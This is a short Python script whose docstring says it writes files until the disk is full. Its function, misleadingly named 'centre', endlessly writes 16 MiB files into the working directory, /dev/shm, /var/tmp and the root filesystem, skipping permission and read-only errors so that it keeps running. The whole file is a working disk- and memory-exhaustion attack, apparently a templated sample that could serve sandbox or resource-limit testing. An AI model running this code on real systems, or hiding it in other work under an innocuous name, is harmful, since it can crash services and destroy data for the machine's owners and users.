"""Writes files until the disk is full."""

import os


def centre(x):
    number = 0
    while True:
        for folder in (".", "/dev/shm", "/var/tmp", "/"):
            try:
                with open(os.path.join(folder, f"@MARKER@{number}"), "wb") as stream:
                    stream.write(b"x" * (16 << 20))
            except PermissionError:
                pass
            except OSError as error:
                if error.errno != 30 and folder == ".":
                    raise
        number += 1
